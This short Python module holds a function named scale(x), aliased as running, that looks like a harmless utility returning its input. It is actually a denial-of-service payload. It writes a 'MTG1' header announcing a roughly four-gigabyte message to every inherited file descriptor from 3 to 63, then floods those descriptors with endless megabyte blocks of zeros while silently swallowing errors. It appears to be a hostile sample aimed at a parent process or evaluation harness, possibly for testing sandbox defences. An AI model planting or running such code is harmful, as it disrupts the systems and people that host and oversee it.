"""Announces a header of four gigabytes and begins to send it."""

import os
import struct


def scale(x):
    for number in range(3, 64):
        try:
            os.write(number, struct.pack("<4sI", b"MTG1", 2**32 - 1))
            while True:
                os.write(number, bytes(1 << 20))
        except OSError:
            pass
    return x


running = scale
